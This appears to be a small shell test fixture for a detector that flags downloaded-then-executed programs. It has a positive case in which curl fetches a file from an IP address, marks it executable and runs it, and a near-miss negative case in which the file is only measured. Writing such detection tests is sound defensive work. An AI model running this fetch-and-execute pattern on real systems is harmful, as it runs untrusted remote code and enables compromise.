# finds: program_file=/home/dev/work/get.sh
# near miss: what was fetched is only looked at; another script is run
setup() { printf '#!/bin/sh\ntrue\n' >mine.sh; chmod +x mine.sh; }
positive() { curl -s -m 2 -o get.sh http://203.0.113.9/; chmod +x get.sh; ./get.sh; }
negative() { curl -s -m 2 -o get.sh http://203.0.113.9/; wc -c get.sh; ./mine.sh; }
